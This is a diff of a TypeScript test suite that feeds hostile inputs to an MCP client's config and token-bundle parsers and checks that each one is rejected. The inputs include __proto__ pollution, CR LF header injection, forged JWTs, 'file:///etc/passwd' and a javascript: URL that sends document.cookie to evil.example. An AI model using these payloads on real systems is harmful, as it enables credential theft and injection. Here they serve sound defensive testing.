     for (const c of cases) {
@@ -504,10 +835,19 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
       ['"auth.scopes" with a quote', { ...base, auth: { scopes: ['mcp"read'] } }],
       ['"auth.resource" true', { ...base, auth: { resource: true } }],
       ['"auth.resource" a javascript: URL', { ...base, auth: { resource: 'javascript:alert(1)' } }],
-      ['"auth.resourceMetadataUrl" http off loopback', { ...base, auth: { resourceMetadataUrl: 'http://mcp.example.com/.well-known/oauth-protected-resource' } }],
+      [
+        '"auth.resourceMetadataUrl" http off loopback',
+        { ...base, auth: { resourceMetadataUrl: 'http://mcp.example.com/.well-known/oauth-protected-resource' } },
+      ],
       ['"auth.authorizationServer" relative', { ...base, auth: { authorizationServer: '/as' } }],
-      ['"auth.authorizationServerMetadataUrl" a data: URL', { ...base, auth: { authorizationServerMetadataUrl: 'data:application/json,{}' } }],
-      ['"auth.clientMetadataUrl" http on loopback', { ...base, auth: { clientMetadataUrl: 'http://127.0.0.1/client.json' } }],
+      [
+        '"auth.authorizationServerMetadataUrl" a data: URL',
+        { ...base, auth: { authorizationServerMetadataUrl: 'data:application/json,{}' } },
+      ],
+      [
+        '"auth.clientMetadataUrl" http on loopback',
+        { ...base, auth: { clientMetadataUrl: 'http://127.0.0.1/client.json' } },
+      ],
       ['"auth.loopbackPort" zero', { ...base, auth: { loopbackPort: 0 } }],
       ['"auth.loopbackPort" a string', { ...base, auth: { loopbackPort: '33418' } }],
       ['"auth.loopbackPort" fractional', { ...base, auth: { loopbackPort: 8080.5 } }],
@@ -515,7 +855,10 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
       ['"auth.redirect" a number', { ...base, auth: { redirect: 1 } }],
       ['a top-level key with markup and controls', { ...base, [HOSTILE_TEXT]: 1 }],
       ['an auth key with markup and controls', { ...base, auth: { [HOSTILE_TEXT]: 1 } }],
-      ['a "__proto__" key', JSON.parse('{"name":"A","url":"https://mcp.example.com/mcp","__proto__":{"transport":"stdio"}}')],
+      [
+        'a "__proto__" key',
+        JSON.parse('{"name":"A","url":"https://mcp.example.com/mcp","__proto__":{"transport":"stdio"}}'),
+      ],
       ['a client secret at the top level', { ...base, clientSecret: PLANTED }],
       ['a password under auth', { ...base, auth: { password: PLANTED } }],
       ['an access token under auth', { ...base, auth: { accessToken: PLANTED } }],
@@ -533,8 +876,16 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
         assert.equal(caught.code, 'invalid_config', caught.message);
         assertPresentable(caught.message);
 
-        const { servers, invalid } = parseServers([{ name: 'Good', url: 'https://good.example/mcp' }, entry, { name: 'Also good', url: 'https://good2.example/mcp' }]);
-        assert.deepEqual(servers.map((s) => s.name), ['Good', 'Also good'], 'nothing from the bad entry is kept');
+        const { servers, invalid } = parseServers([
+          { name: 'Good', url: 'https://good.example/mcp' },
+          entry,
+          { name: 'Also good', url: 'https://good2.example/mcp' },
+        ]);
+        assert.deepEqual(
+          servers.map((s) => s.name),
+          ['Good', 'Also good'],
+          'nothing from the bad entry is kept',
+        );
         assert.equal(invalid.length, 1);
         assert.equal(invalid[0]!.index, 1);
         assert.equal(invalid[0]!.message, caught.message, 'the tree and the log show the same, presentable, message');
@@ -543,7 +894,17 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
 
     it('the base entry is valid (each row fails for its planted defect only)', () => {
       assert.equal(parseEntry(base).url, 'https://mcp.example.com/mcp');
-      assert.equal(parseEntry({ ...base, transport: 'stdio', command: 'node', args: ['s.js'], tokenEnv: 'TOKEN', auth: { loopbackPort: 33418, scopes: ['mcp:read'] } }).auth.loopbackPort, 33418);
+      assert.equal(
+        parseEntry({
+          ...base,
+          transport: 'stdio',
+          command: 'node',
+          args: ['s.js'],
+          tokenEnv: 'TOKEN',
+          auth: { loopbackPort: 33418, scopes: ['mcp:read'] },
+        }).auth.loopbackPort,
+        33418,
+      );
     });
 
     it('a setting that is a string, a number or an object → one invalid entry, no servers', () => {
@@ -562,8 +923,18 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
     const jwt = (claims: Record<string, unknown>): string => new UnsecuredJWT(claims).encode();
     const good = (patch: Record<string, unknown> = {}, drop: string[] = []): string => {
       const doc: Record<string, unknown> = {
-        type: BUNDLE_TYPE, version: 1, serverUrl: SERVER, issuer: ISSUER, tokenEndpoint: `${ISSUER}/token`, clientId: 'client-1',
-        accessToken: PLANTED_AT, refreshToken: PLANTED_RT, expiresAt: new Date(now + 3_600_000).toISOString(), scopes: ['mcp:read'], resource: SERVER, ...patch,
+        type: BUNDLE_TYPE,
+        version: 1,
+        serverUrl: SERVER,
+        issuer: ISSUER,
+        tokenEndpoint: `${ISSUER}/token`,
+        clientId: 'client-1',
+        accessToken: PLANTED_AT,
+        refreshToken: PLANTED_RT,
+        expiresAt: new Date(now + 3_600_000).toISOString(),
+        scopes: ['mcp:read'],
+        resource: SERVER,
+        ...patch,
       };
       for (const field of drop) delete doc[field];
       return JSON.stringify(doc);
@@ -584,7 +955,10 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
     const tokensFile = () => path.join(home, 'tokens.json');
     const importText = (text: string) => {
       const out: string[] = [];
-      return { out, run: importBundle({ url: SERVER }, { stdout: (t) => void out.push(t), readStdin: async () => text }) };
+      return {
+        out,
+        run: importBundle({ url: SERVER }, { stdout: (t) => void out.push(t), readStdin: async () => text }),
+      };
     };
 
     const cases: [string, ErrorCode, () => string][] = [
@@ -593,27 +967,51 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
       ['a number', 'invalid_bundle', () => '42'],
       ['a JSON string holding a bundle', 'invalid_bundle', () => JSON.stringify(good())],
       ['"type" missing', 'invalid_bundle', () => good({}, ['type'])],
-      ['"type" smuggled in "__proto__"', 'invalid_bundle', () => good({}, ['type']).replace(/^\{/, `{"__proto__":{"type":"${BUNDLE_TYPE}"},`)],
+      [
+        '"type" smuggled in "__proto__"',
+        'invalid_bundle',
+        () => good({}, ['type']).replace(/^\{/, `{"__proto__":{"type":"${BUNDLE_TYPE}"},`),
+      ],
       ['"version" 2', 'invalid_bundle', () => good({ version: 2 })],
       ['"version" the string "1"', 'invalid_bundle', () => good({ version: '1' })],
       ['"serverUrl" missing', 'invalid_bundle', () => good({}, ['serverUrl'])],
-      ['"serverUrl" a sibling path on the same origin', 'invalid_bundle', () => good({ serverUrl: 'https://mcp.example.com/other', resource: undefined })],
+      [
+        '"serverUrl" a sibling path on the same origin',
+        'invalid_bundle',
+        () => good({ serverUrl: 'https://mcp.example.com/other', resource: undefined }),
+      ],
       ['"serverUrl" a javascript: URL', 'insecure_url', () => good({ serverUrl: 'javascript:alert(1)' })],
       ['"serverUrl" http off loopback', 'insecure_url', () => good({ serverUrl: 'http://mcp.example.com/mcp' })],
       ['"serverUrl" relative', 'invalid_bundle', () => good({ serverUrl: '/mcp' })],
       ['"issuer" a number', 'invalid_bundle', () => good({ issuer: 1 })],
       ['"issuer" http off loopback', 'insecure_url', () => good({ issuer: 'http://as.example.com' })],
-      ['"tokenEndpoint" a javascript: URL', 'insecure_url', () => good({ tokenEndpoint: 'javascript:fetch("//evil.example/?"+document.cookie)' })],
+      [
+        '"tokenEndpoint" a javascript: URL',
+        'insecure_url',
+        () => good({ tokenEndpoint: 'javascript:fetch("//evil.example/?"+document.cookie)' }),
+      ],
       ['"tokenEndpoint" a file: URL', 'insecure_url', () => good({ tokenEndpoint: 'file:///etc/passwd' })],
       ['"tokenEndpoint" missing', 'invalid_bundle', () => good({}, ['tokenEndpoint'])],
-      ['"tokenEndpoint" with credentials', 'invalid_bundle', () => good({ tokenEndpoint: `https://u:${PLANTED}@as.example.com/token` })],
+      [
+        '"tokenEndpoint" with credentials',
+        'invalid_bundle',
+        () => good({ tokenEndpoint: `https://u:${PLANTED}@as.example.com/token` }),
+      ],
       ['"clientId" missing', 'invalid_bundle', () => good({}, ['clientId'])],
       ['"clientId" an object', 'invalid_bundle', () => good({ clientId: { id: 'x' } })],
       ['"accessToken" missing', 'invalid_bundle', () => good({}, ['accessToken'])],
       ['"accessToken" empty', 'invalid_bundle', () => good({ accessToken: '' })],
       ['"accessToken" a number', 'invalid_bundle', () => good({ accessToken: 12345 })],
-      ['"accessToken" with CR LF (header injection)', 'invalid_bundle', () => good({ accessToken: `${PLANTED_AT}\r\nX-Injected: 1` })],
-      ['"accessToken" with a right-to-left override', 'invalid_bundle', () => good({ accessToken: `${PLANTED_AT}\u202e` })],
+      [
+        '"accessToken" with CR LF (header injection)',
+        'invalid_bundle',
+        () => good({ accessToken: `${PLANTED_AT}\r\nX-Injected: 1` }),
+      ],
+      [
+        '"accessToken" with a right-to-left override',
+        'invalid_bundle',
+        () => good({ accessToken: `${PLANTED_AT}\u202e` }),
+      ],
       ['"accessToken" of 10 MB', 'invalid_bundle', () => good({ accessToken: 'a'.repeat(10 * MB) })],
       ['"refreshToken" a number', 'invalid_bundle', () => good({ refreshToken: 7 })],
       ['"refreshToken" with a NUL', 'invalid_bundle', () => good({ refreshToken: `${PLANTED_RT}\u0000` })],
@@ -625,14 +1023,42 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
       ['"resource" a javascript: URL', 'invalid_bundle', () => good({ resource: 'javascript:alert(1)' })],
       ['"expiresAt" not a date', 'invalid_bundle', () => good({ expiresAt: 'tomorrow' })],
       ['"expiresAt" a number', 'invalid_bundle', () => good({ expiresAt: now + 3_600_000 })],
-      ['expired an hour ago, no refresh token', 'invalid_bundle', () => good({ expiresAt: new Date(now - 3_600_000).toISOString() }, ['refreshToken'])],
-      ['a JWT whose "exp" has passed, no refresh token, no expiresAt', 'invalid_bundle', () => good({ accessToken: jwt({ aud: SERVER, iss: ISSUER, exp: Math.floor(now / 1000) - 60 }) }, ['refreshToken', 'expiresAt'])],
-      ['a JWT for another resource', 'invalid_bundle', () => good({ accessToken: jwt({ aud: 'https://other.example.com/mcp', iss: ISSUER }) })],
-      ['a JWT whose "aud" array names only other resources', 'invalid_bundle', () => good({ accessToken: jwt({ aud: ['https://other.example.com/mcp', 'api://x'], iss: ISSUER }) })],
+      [
+        'expired an hour ago, no refresh token',
+        'invalid_bundle',
+        () => good({ expiresAt: new Date(now - 3_600_000).toISOString() }, ['refreshToken']),
+      ],
+      [
+        'a JWT whose "exp" has passed, no refresh token, no expiresAt',
+        'invalid_bundle',
+        () =>
+          good({ accessToken: jwt({ aud: SERVER, iss: ISSUER, exp: Math.floor(now / 1000) - 60 }) }, [
+            'refreshToken',
+            'expiresAt',
+          ]),
+      ],
+      [
+        'a JWT for another resource',
+        'invalid_bundle',
+        () => good({ accessToken: jwt({ aud: 'https://other.example.com/mcp', iss: ISSUER }) }),
+      ],
+      [
+        'a JWT whose "aud" array names only other resources',
+        'invalid_bundle',
+        () => good({ accessToken: jwt({ aud: ['https://other.example.com/mcp', 'api://x'], iss: ISSUER }) }),
+      ],
       ['a JWT whose "aud" is a number', 'invalid_bundle', () => good({ accessToken: jwt({ aud: 42, iss: ISSUER }) })],
-      ['a JWT from another issuer', 'invalid_bundle', () => good({ accessToken: jwt({ aud: SERVER, iss: 'https://evil.example.com' }) })],
+      [
+        'a JWT from another issuer',
+        'invalid_bundle',
+        () => good({ accessToken: jwt({ aud: SERVER, iss: 'https://evil.example.com' }) }),
+      ],
       ['three dot-separated parts that are no JWT', 'invalid_bundle', () => good({ accessToken: 'not.a.jwt' })],
-      ['a deeply nested "type"', 'invalid_bundle', () => good({}, ['type']).replace(/^\{/, `{"type":${'['.repeat(100_000)}${']'.repeat(100_000)},`)],
+      [
+        'a deeply nested "type"',
+        'invalid_bundle',
+        () => good({}, ['type']).replace(/^\{/, `{"type":${'['.repeat(100_000)}${']'.repeat(100_000)},`),
+      ],
     ];
 
     for (const [name, code, text] of cases) {
@@ -658,7 +1084,14 @@ describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log,
 
     it('the base bundle imports (each row fails for its planted defect only), and is stored', async () => {
       assert.equal(fromBundle(good(), SERVER, now).accessToken, PLANTED_AT);
-      assert.equal(fromBundle(good({ accessToken: jwt({ aud: SERVER, iss: ISSUER, exp: Math.floor(now / 1000) + 600 }) }), SERVER, now).expiresAt, (Math.floor(now / 1000) + 600) * 1000);
+      assert.equal(
+        fromBundle(
+          good({ accessToken: jwt({ aud: SERVER, iss: ISSUER, exp: Math.floor(now / 1000) + 600 }) }),
+          SERVER,
+          now,
+        ).expiresAt,
+        (Math.floor(now / 1000) + 600) * 1000,
+      );
       const { out, run } = importText(good());
       await run;
       assert.match(out.join(''), /Imported a token/);
